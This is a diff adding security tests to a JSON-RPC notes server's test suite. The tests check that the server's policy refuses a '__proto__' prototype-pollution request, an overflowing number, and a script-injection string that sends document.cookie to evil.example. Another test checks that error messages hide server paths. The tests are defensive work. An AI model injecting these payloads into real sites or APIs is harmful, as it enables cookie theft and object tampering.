@@ -34,6 +34,21 @@ const refused = abuses({
     [call("notes.search", { text: "door", sort: "title" })],
   ],
   "parameters in a list": ["messageSchema.mismatch", 4522, [call("notes.search", ["door"])]],
+  "a name that reaches the prototype": [
+    "threat.hygiene",
+    4522,
+    ['{"jsonrpc":"2.0","id":1,"method":"notes.search","params":{"text":"a","__proto__":{"sort":"title"}}}'],
+  ],
+  "a number that no double holds": [
+    "threat.hygiene",
+    4522,
+    ['{"jsonrpc":"2.0","id":1,"method":"notes.search","params":{"text":1e999}}'],
+  ],
+  "script in a text": [
+    "threat.signature",
+    4522,
+    [call("notes.search", { text: "<script>fetch('//evil.example/' + document.cookie)</script>" })],
+  ],
   "a batch of a thousand": [
     "dialect.limit",
     4522,
@@ -63,6 +78,7 @@ describe.each(hostNames)("a JSON-RPC server with its policy, through the host `%
     await unrefused(notes, async () => {
       const { peer: ada } = await openRpc(notes, await notes.bearer("ada", { role: "author" }));
       const { peer: ben, socket } = await openRpc(notes, await notes.bearer("ben", { role: "reader" }));
+      expect(socket.extensions).toContain("permessage-deflate");
       const changed = new Promise((resolve) => ben.addMethod("notes.changed", resolve));
       expect(await ben.request("notes.watch", {})).toBe(true);
       expect(await ada.request("notes.add", { title: "door", text: "It squeaks." })).toBe(1);
@@ -99,5 +115,17 @@ describe.each(hostNames)("a JSON-RPC server with its policy, through the host `%
     peer.addMethod("client.time", () => new Promise(() => undefined));
     const calls = Array.from({ length: 41 }, (_, id) => call("whatTime", {}, id));
     expect(await endingOf(notes, socket, calls)).toEqual({ code: "dialect.operations", close: 1008 });
+  });
+
+  it("hides where the server failed in an error: leak.redacted", async () => {
+    const notes = await guardNotes(host);
+    const { peer } = await openRpc(notes, await notes.bearer("ada", { role: "reader" }));
+    const error = await peer.request("notes.search", { text: "door" }).then(
+      () => null,
+      (cause: unknown) => String(cause),
+    );
+    expect(error).toContain("no index");
+    expect(error).not.toContain(import.meta.dirname);
+    expect(notes.refusals()).toEqual(["leak.redacted"]);
   });
 });
